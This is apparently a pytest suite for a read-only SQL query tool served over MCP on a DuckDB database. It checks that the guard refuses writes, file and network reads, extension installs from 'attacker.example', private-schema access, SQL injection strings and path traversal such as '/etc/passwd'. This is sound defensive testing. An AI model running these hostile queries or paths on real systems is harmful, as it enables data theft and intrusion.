"""What comes from outside over MCP can read what it may, and do nothing else."""

from __future__ import annotations

import hashlib
import json
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import pytest
from building import DbtProject
from mcp.client.client import Client
from serving import EVIL_REPO, SECRET, Site, answer, call, make_site, over_http, said, serving

from orb_learning.errors import DatabaseError, QueryRefusedError
from orb_learning.figures.reader import path_inside
from orb_learning.figures.results import LONGEST_TEXT
from orb_learning.mcp.result_limits import bounds_of
from orb_learning.mcp.sql_guard import LONGEST_SQL, check_sql, in_brackets, readable_relations
from orb_learning.store.connection import connect

CONTENT = "the content of another file"
SLOW = (
    "select count(*) from range(1000000) as a, range(1000000) as b "
    "where (a.range * b.range) % 7 = 3"
)

ALLOWED = [
    "select 1",
    "select 1;",
    "select count(*) from executions",
    "select count(*) from main.executions",
    "select count(*) from learning.main.executions",
    "select count(*) from EXECUTIONS",
    "from executions select count(*)",
    "with recent as (select * from executions) select count(*) from recent",
    "with recursive n as (select 1 as a union all select a + 1 from n where a < 3) from n",
    "select * from (values (1), (2)) as v (a)",
    "select e.repo from executions as e semi join rpt_repositories as r on e.repo = r.repo",
    "select unnest([1, 2])",
    "from range(3)",
    "from alerts_at()",
    "select (select max(quality_score) from executions) as best",
    "select repo, count(*) from executions group by rollup (repo) having count(*) > 0",
    "select row_number() over (partition by repo order by timestamp) from executions limit 3",
    "from executions limit 1",
    "table metadata",
    "describe executions",
    "summarize metadata",
    "show tables",
    "select 1 union all select 2 except select 3",
    "from (pivot executions on success in (true, false) using count(*))",
    "select list_transform([1, 2], lambda x: x + 1)",
    "select json_extract(metadata, '$.model') from executions limit 1",
    "select 'drop table executions; --' as words, 'it''s' as quoted -- a comment",
]

REFUSED = [
    # Not a SELECT, or more than one
    "",
    ";",
    "-- nothing",
    "selec 1",
    "select 1; select 2",
    "select 1; drop table fct_executions",
    "insert into build_state select * from build_state",
    "update fct_executions set repo = 'x'",
    "delete from fct_executions",
    "truncate fct_executions",
    "merge into fct_executions as a using fct_executions as b on (a.repo = b.repo) when matched "
    "then delete",
    "drop table fct_executions",
    "create table mine as select 1",
    "create temp table mine as select 1",
    "create view mine as select 1",
    "create macro mine() as 1",
    "create schema mine",
    "create sequence mine",
    "alter table fct_executions add column mine integer",
    "comment on table fct_executions is 'x'",
    "with gone as (delete from fct_executions returning *) select * from gone",
    "with new as (insert into fct_executions select * from fct_executions returning *) from new",
    "with new as (update fct_executions set repo = 'x' returning *) select * from new",
    "explain select 1",
    "explain analyze select 1",
    "prepare mine as select 1",
    "execute mine",
    "begin",
    "commit",
    "checkpoint",
    "vacuum",
    "analyze",
    "use main",
    "set memory_limit = '100GB'",
    "set enable_external_access = true",
    "set global lock_configuration = false",
    "reset memory_limit",
    "set variable mine = 1",
    "pragma database_list",
    "pragma enable_profiling",
    "call duckdb_settings()",
    "call pragma_version()",
    "install httpfs",
    "load httpfs",
    "force install httpfs from 'http://attacker.example'",
    "attach '{other}'",
    "attach '{other}' as other (type sqlite)",
    "detach learning",
    "copy fct_executions to '{written}'",
    "copy (select 1) to '{written}'",
    "copy fct_executions from '{other}'",
    "export database '{written}'",
    "import database '{other}'",
    "create secret (type s3, key_id 'x', secret 'y')",
    "select $1",
    "select ?",
    "select * from executions where repo = $repo",
    "pivot executions on repo using count(*)",
    # Other files, and the network
    "select * from read_csv('{other}')",
    "select * from read_csv_auto('{other}')",
    "select * from read_text('{other}')",
    "select * from read_blob('{other}')",
    "select * from read_json('{other}')",
    "select * from read_ndjson('{other}')",
    "select * from read_parquet('{other}')",
    "select * from parquet_metadata('{other}')",
    "select * from read_duckdb('{other}')",
    "select * from sniff_csv('{other}')",
    "select * from glob('{folder}/*')",
    "select * from '{other}'",
    'select * from "{other}"',
    "from 'https://attacker.example/x.parquet'",
    "with x as (from '{other}') select * from x",
    "select * from executions where repo in (from '{other}')",
    "select (select content from read_text('{other}'))",
    "select 1 from executions, lateral (from read_text('{other}'))",
    "select list_transform([1], lambda x: (select content from read_text('{other}')))",
    "select * from executions order by (select content from read_text('{other}'))",
    "select * from executions limit (select count(*) from glob('{folder}/*'))",
    "summarize '{other}'",
    "describe '{other}'",
    "describe select * from read_text('{other}')",
    "summarize select * from read_text('{other}')",
    "select getenv('HOME')",
    # Another schema, and the process
    "select * from raw.feedback",
    "select * from raw.executions",
    "select * from stg_feedback",
    "select * from main.stg_feedback",
    "select * from learning.main.INT_feedback_ratings",
    "describe stg_feedback",
    "with stg_feedback as (select 1) select * from stg_feedback",
    'select * from "raw"."feedback"',
    "select * from learning.raw.feedback",
    "summarize raw.feedback",
    "describe raw.feedback",
    "select count(*) from executions, raw.feedback",
    "with feedback as (select 1) select * from raw.feedback",
    "with feedback as (select 1) select * from feedback",
    "from query('select * from raw.feedback')",
    "from query_table('raw.feedback')",
    "from query_table(['raw.feedback'])",
    "from json_execute_serialized_sql(json_serialize_sql('select * from raw.feedback'))",
    "from seq_scan('raw.feedback')",
    "from duckdb_tables()",
    "from duckdb_settings()",
    "from duckdb_secrets()",
    "from duckdb_databases()",
    "from duckdb_views()",
    "from duckdb_functions()",
    "from pragma_table_info('raw.feedback')",
    "from pragma_storage_info('raw.feedback')",
    "from information_schema.tables",
    "from pg_catalog.pg_tables",
    "from pg_tables",
    "from sqlite_master",
    "from duckdb_logs",
    "show all tables",
    "show databases",
    "show settings",
    "select current_setting('memory_limit')",
    "select current_query()",
    "select sleep_ms(10)",
    "select nextval('raw.load_seq')",
    "from python_variable",
    "select * from connection",
    "from pandas_scan(1)",
    "from arrow_scan(1, 2, 3)",
    "select 1 from (select write_log('x'))",
    # Functions that bind SQL given as a text, build types of any depth, or show the process
    "select json_serialize_plan('select * from raw.feedback')",
    "select json_serialize_sql('select 1')",
    "select json_deserialize_sql('{}')",
    "select json_transform('{}', '{}')",
    "select '{}'.from_json('{}')",
    "select list_transform([1], lambda x: main.json_transform('{}', '{}'))",
    "select system.main.version()",
    "select pg_get_viewdef('executions')",
]
"""Each with {other}, a file beside the database, {written}, one that is not there, and {folder}."""


@pytest.fixture(scope="module")
def site(
    project: DbtProject, small_database: Path, tmp_path_factory: pytest.TempPathFactory
) -> Site:
    site = make_site(project, small_database, tmp_path_factory.mktemp("query"))
    (site.database.parent / "other.csv").write_text(f"content\n{CONTENT}\n")
    return site


@pytest.fixture(scope="module")
def url(site: Site) -> Iterator[str]:
    limits = {"QUERY_ROWS": "20", "ANSWER_CHARACTERS": "5000", "QUERY_SECONDS": "1"}
    variables = {f"ORB_LEARNING__MCP_{name}": value for name, value in limits.items()}
    with serving(site, **variables, ORB_LEARNING__MCP_MEMORY_LIMIT_MB="200") as url:
        yield url


@pytest.fixture(autouse=True)
def _nothing_is_written(site: Site) -> Iterator[None]:
    def files() -> dict[str, bytes]:
        return {
            file.name: hashlib.sha256(file.read_bytes()).digest()
            for file in site.database.parent.iterdir()
            if file.is_file() and file.suffix not in (".door", ".turn")
        }

    before = files()
    yield
    assert files() == before


def filled(site: Site, sql: str) -> str:
    names = {"other": "other.csv", "written": "written.csv", "folder": "."}
    for name, file in names.items():
        sql = sql.replace(f"{{{name}}}", str(site.database.parent / file))
    return sql


def test_one_select_over_main_runs(url: str) -> None:
    async def each(client: Client) -> None:
        for sql in ALLOWED:
            found = answer(await client.call_tool("query", {"sql": sql}))
            assert found["row_count"] == len(found["rows"]) > 0, sql
            assert all(len(row) == len(found["columns"]) for row in found["rows"])

    over_http(url, each)


def test_everything_else_is_refused_with_the_reason(site: Site, url: str) -> None:
    async def each(client: Client) -> None:
        for sql in REFUSED[::3]:  # the next test has all of them
            result = await client.call_tool("query", {"sql": filled(site, sql)})
            assert result.is_error, sql
            assert CONTENT not in said(result)
            assert SECRET not in said(result)
            assert said(result) != "Error executing tool query", sql  # a crash

    over_http(url, each)


def test_the_check_refuses_by_itself(site: Site) -> None:
    """Without the seal, the parser's tree alone would keep each of them out."""
    with connect(site.database, read_only=True) as connection:
        for sql in ALLOWED:
            assert check_sql(connection, sql).type == duckdb.StatementType.SELECT
        for sql in REFUSED:
            if "getenv" not in sql:  # a function of DuckDB's shell alone
                with pytest.raises(QueryRefusedError):
                    check_sql(connection, filled(site, sql))


def test_the_seal_keeps_everything_out_by_itself(site: Site) -> None:
    """Without the check, what got past it could reach no file, no setting and no variable."""
    python_variable = duckdb.sql("select 1 as a")
    assert python_variable
    reaching = [
        sql for sql in REFUSED
        if "{" in sql or sql.startswith(("set ", "reset", "install", "load", "delete", "drop"))
        or "python_variable" in sql
    ]  # fmt: skip
    assert len(reaching) > 35
    with connect(site.database, read_only=True, sandbox_memory_mb=200) as connection:
        for sql in reaching:
            if sql == "set variable mine = 1":
                continue
            with pytest.raises(duckdb.Error):
                connection.execute(filled(site, sql)).fetchall()
        found = connection.cursor().execute("select current_setting('TimeZone')").fetchall()
        assert found == [("UTC",)]


def test_a_sandboxed_file_is_shared_with_no_other_connection(site: Site) -> None:
    """They would share its settings, and the other could not set its time zone."""
    with (
        connect(site.database, read_only=True, sandbox_memory_mb=200),
        pytest.raises(DatabaseError, match="in another mode"),
        connect(site.database, read_only=True, wait_seconds=0.1),
    ):
        pass


def test_private_feedback_is_in_nothing_that_can_be_read(site: Site) -> None:
    with connect(site.database, read_only=True) as connection:
        (kept,) = connection.execute("select comment from raw.feedback").fetchall()
        assert kept == (SECRET,)
        relations = readable_relations(connection)
        assert {"executions", "rpt_performance", "fct_feedback"} <= set(relations)
        for relation in relations:
            statement = check_sql(connection, f"select columns(*)::varchar from {relation}")
            for row in connection.execute(statement).fetchall():
                assert SECRET not in row, relation


def test_rows_characters_time_and_memory_are_limited(url: str) -> None:
    async def each(client: Client) -> None:
        async def query(sql: str) -> Any:
            began = time.monotonic()
            result = await client.call_tool("query", {"sql": sql})
            assert time.monotonic() - began < 20
            return result

        rows = answer(await query("from range(1000000000000)"))
        assert (rows["row_count"], rows["is_cut"]) == (20, True)
        assert answer(await query("from range(20)"))["is_cut"] is False
        wide = answer(await query("select repeat('x', 1500) from range(20)"))
        assert (wide["row_count"], wide["is_cut"]) == (3, True)
        vectors = answer(await query("select embedding from executions"))
        assert len(json.dumps(vectors)) < 10_000
        long = answer(await query("select repeat('x', 10000000) as text"))
        assert "10,000,000 characters, cut here" in long["rows"][0][0]

        assert "ran for 1 s" in said(await query(SLOW))
        heavy = "select len(list(repeat('x', 1000000) || i)) from range(1000) as r (i)"
        assert "more memory" in said(await query(heavy))
        # A constant of 4 GB, and a value of it, which DuckDB's own limit does not count.
        for huge in (
            "len(range(300000000))",
            "len(range(i)) from range(300000000, 300000001) r(i)",
        ):
            assert "more memory" in said(await query(f"select {huge}"))
        assert answer(await query("select 1"))["rows"] == [[1]]  # it goes on

    over_http(url, each)


@pytest.mark.parametrize(
    "value",
    [
        "list_resize([n::utinyint], 3000000)",
        "range(3000000 + n)",
        "[[n], list_resize([n], 3000000)]",
        "{'a': n, 'b': {'c': range(3000000 + n)}}",
        "row(n, range(3000000 + n))",
        "map {n: list_resize([n], 3000000)}",
        "map(range(3000000 + n), range(3000000 + n))",
        "[{'a': repeat('x', 3000000 + n)}]",
        'union_value("it\'s" := range(3000000 + n))',
        "repeat('x', 3000000 + n)::blob",
        "repeat('x', 3000000 + n)",
        "repeat('9', 30000 + n)::bignum",
    ],
)
def test_a_value_is_cut_before_python_has_it(value: str) -> None:
    """A value of n = 0 from a table: of a constant DuckDB's planner makes its own copies."""
    with duckdb.connect() as connection:
        statement = connection.extract_statements(f"select {value} as it from range(1) as r (n);")
        (bound,) = bounds_of(connection.sql(statement[0]).types, 5_000)
        ((fetched, size),) = connection.execute(
            f"select {bound.sql} from {in_brackets(statement[0])}"
        ).fetchall()
    assert size >= 30_000
    assert len(fetched or "") <= LONGEST_TEXT
    assert f"{size:,} {bound.unit}, cut here" in bound.shown(fetched, size)


def test_the_nested_values_of_a_row_have_its_bound_together(url: str) -> None:
    sql = "select range(2400 + n), range(2400 + n), [['a']] from range(1) as r (n)"
    (row,) = answer(call(url, "query", sql=sql))["rows"]
    assert row == [*["… (2,400 parts and characters, cut here)"] * 2, [["a"]]]


def test_keys_names_and_errors_are_cut_as_texts_are(url: str) -> None:
    long = "k" * 3_000
    sql = f"select map([repeat('k', 3000 + n)], [1]) as \"{long}\" from range(1) as r (n)"
    found = answer(call(url, "query", sql=sql))
    cut = f"{long[:LONGEST_TEXT]}… (3,000 characters, cut here)"
    assert found["rows"] == [[{cut: 1}]]
    assert found["columns"] == [cut]
    refused = said(
        call(url, "query", sql="select (repeat('k', 9000 + n))::int from range(1) r (n)")
    )
    assert "Could not convert string" in refused
    assert len(refused) < LONGEST_TEXT + 200


@pytest.mark.parametrize("end", ["", ";", " ; -- ö;", " -- ;\n;;", "/* ; */ ; /* x */", " -- x"])
def test_a_statement_in_brackets_is_without_its_end(end: str) -> None:
    with duckdb.connect() as connection:
        (statement,) = connection.extract_statements(f"-- ö\nselect 'ö;' as ö{end}")
        found = connection.execute(f"from {in_brackets(statement)}").fetchall()
    assert found == [("ö;",)]


@pytest.mark.parametrize(
    ("part", "end"),
    [("(", ")"), ("[", "]"), ("(select ", ")"), ("not ", ""), ("- ", ""), ("1 + ", ""),
     ("case when true then ", " end"), ("{'a': ", "}"), ("abs(", ")"), ("1 in (", ")")],
)  # fmt: skip
def test_deeply_nested_sql_ends_neither_the_server_nor_its_answers(
    url: str, part: str, end: str
) -> None:
    depth = (LONGEST_SQL - 10) // len(part + end)
    began = time.monotonic()
    result = call(url, "query", sql=f"select {part * depth}1{end * depth}")
    assert result.is_error
    assert time.monotonic() - began < 20
    assert call(url, "query", sql="x" * (LONGEST_SQL + 1)).is_error
    assert answer(call(url, "query", sql="select 1"))["rows"] == [[1]]


def test_values_come_as_json_has_them(url: str) -> None:
    sql = (
        "select true, 1, 170141183460469231731687303715884105727::hugeint, 1.5::decimal(9, 2), "
        "'nan'::double, 'inf'::float, timestamp '2026-03-31 12:00:00', date '2026-03-31', "
        "interval 1 day, [1, null], {'a': [1.5::double]}, map {'k': 1}, 'a\0b'::blob, null, "
        "uuid '00000000-0000-0000-0000-000000000001', 'bell \a', row(1, 'b'), "
        "union_value(k := [1]), '101'::bit, [1, 2]::integer[2], {'a': null}, null::integer[]"
    )
    (row,) = answer(call(url, "query", sql=sql.replace("\0", "\\x00")))["rows"]
    assert row[:2] == [True, 1]
    assert row[2:6] == [170141183460469231731687303715884105727, "1.50", "nan", "inf"]
    assert row[6:9] == ["2026-03-31T12:00:00", "2026-03-31", "1 day, 0:00:00"]
    assert row[9:12] == [[1, None], {"a": [1.5]}, {"k": 1}]
    assert row[12:16] == ["b'a\\x00b'", None, "00000000-0000-0000-0000-000000000001", "bell \a"]
    assert row[16:] == [[1, "b"], [1], "101", [1, 2], {"a": None}, None]


ROUTING = {"recommend_route", "policy_values"}
FREE_TEXTS = {
    ("recommend_route", "task_type"),
    ("find_solutions", "error_message"),
    *(
        ("list_executions", name)
        for name in ("task_id", "words", "tier", "pool", "model", "error_type")
    ),
}
INJECTIONS = [
    "' or '1' = '1",
    "api' union select * from raw.feedback --",
    EVIL_REPO,
    "$1",
    "\0",
    "%s{0}",
    "x" * 1_000_000,
]


@pytest.mark.parametrize("injected", INJECTIONS, ids=range(len(INJECTIONS)))
def test_no_argument_is_taken_as_sql(url: str, injected: str) -> None:
    async def each(client: Client) -> None:
        for tool in (await client.list_tools()).tools:
            if tool.name in ("query", "submit_feedback"):
                continue
            for name, argument in tool.input_schema.get("properties", {}).items():
                given: dict[str, Any] = {name: injected}
                if "task_description" in tool.input_schema.get("required", []):
                    given = {"task_description": "split the module", **given}
                result = await client.call_tool(tool.name, given)
                text = said(result)
                assert SECRET not in text, (tool.name, name)
                assert text != f"Error executing tool {tool.name}", (tool.name, name)  # a crash
                assert len(text) < 50_000
                if name == "repo" and not result.is_error:
                    rows = answer(result)["rows"]
                    repos = {row.get("latest", row).get("repo") for row in rows}
                    asked = {EVIL_REPO} & {injected}
                    if tool.name in ROUTING:  # what is known of all repositories stands beside
                        assert repos <= asked | {None}, tool.name
                    else:
                        assert repos == asked, tool.name
                elif name != "task_description" and (tool.name, name) not in FREE_TEXTS:
                    assert result.is_error, (tool.name, argument)

    over_http(url, each)


def test_half_a_character_and_a_body_of_megabytes_are_refused(url: str) -> None:
    """No client's JSON carries half a character, but anybody can send one."""
    meta = {"io.modelcontextprotocol/protocolVersion": "2026-07-28"}
    message = {
        "jsonrpc": "2.0",
        "id": 1,
        "method": "tools/call",
        "params": {"name": "list_executions", "arguments": {"repo": "HERE"}, "_meta": meta},
    }
    for injected, statuses in [("\\ud800", {200, 400}), ("x" * 5_000_000, {413})]:
        body = json.dumps(message).replace("HERE", injected).encode()
        request = urllib.request.Request(  # noqa: S310
            url,
            body,
            {"Content-Type": "application/json", "Accept": "application/json, text/event-stream"},
        )
        try:
            with urllib.request.urlopen(request, timeout=30) as response:  # noqa: S310
                status, text = response.status, response.read()
        except urllib.error.HTTPError as error:
            status, text = error.code, error.read()
        except (urllib.error.URLError, ConnectionError):
            status, text = 413, b""  # it hangs up on whoever goes on sending
        assert status in statuses
        assert b"Traceback" not in text
        assert b'"rows"' not in text
    assert answer(call(url, "query", sql="select 1"))["rows"] == [[1]]


@pytest.mark.parametrize(
    "path",
    [
        "../secret.db", "data/../../secret.db", "/etc/passwd", "{folder}/../secret.db", "..",
        ".", "", "a\0b", "link.db", "data/link.db", "folder_link/secret.db", "x" * 5_000,
        "~/secret.db", "missing.db", "\\\\server\\share", "file:///etc/passwd", "other.csv",
    ],
)  # fmt: skip
def test_db_path_leads_to_no_file_elsewhere(site: Site, tmp_path: Path, path: str) -> None:
    site = site.copy(tmp_path / "site")
    outside = site.folder / "secret.db"
    with connect(outside):
        pass
    folder = site.database.parent
    (folder / "link.db").symlink_to(outside)
    (folder / "folder_link").symlink_to(site.folder)
    (folder / "other.csv").write_text("a,b")
    if path == "other.csv":
        assert path_inside(folder, path) == folder.resolve() / "other.csv"
        return
    with pytest.raises(DatabaseError) as caught:
        path_inside(folder, filled(site, path))
    assert "refused" in str(caught.value) or "there is no database" in str(caught.value)


def test_db_path_names_a_file_in_the_databases_folder(site: Site, tmp_path: Path) -> None:
    site = site.copy(tmp_path / "site")
    inner = site.database.parent / "backups/one"
    inner.mkdir(parents=True)
    (inner / "learning.db").write_bytes(site.database.read_bytes())
    (site.database.parent / "text.db").write_text("no database" * 1000)
    with serving(site) as url:
        for path in ["learning.db", "data/learning.db", "backups/one/learning.db"]:
            found = answer(call(url, "database_status", db_path=path))
            assert (found["errors"], found["database"]["path"]) == ([], path)
        assert answer(call(url, "database_status", db_path="text.db"))["status"] == "ERROR"
        result = call(url, "database_status", db_path="../secret.db")
        assert result.is_error
        assert "refused" in said(result)
    assert [file.name for file in inner.iterdir()] == ["learning.db"]


def test_queries_at_once_are_stopped_one_by_one(url: str) -> None:
    results: list[Any] = []
    threads = [
        threading.Thread(target=lambda sql=sql: results.append(call(url, "query", sql=sql)))
        for sql in [SLOW, SLOW, "select 1", SLOW, "select 2"]
    ]
    for thread in threads:
        thread.start()
    for _ in range(5):  # whoever asks for no query is not held up by them
        time.sleep(0.3)
        assert answer(call(url, "database_status"))["errors"] == []
    for thread in threads:
        thread.join(60)
    assert len(results) == 5
    refusals = [said(result) for result in results if result.is_error]
    assert sum("ran for 1 s" in refusal for refusal in refusals) == 3, refusals
    # One that comes later may wait for those before it to give up the file, or be told to.
    assert all("ran for 1 s" in one or "readers before" in one for one in refusals)
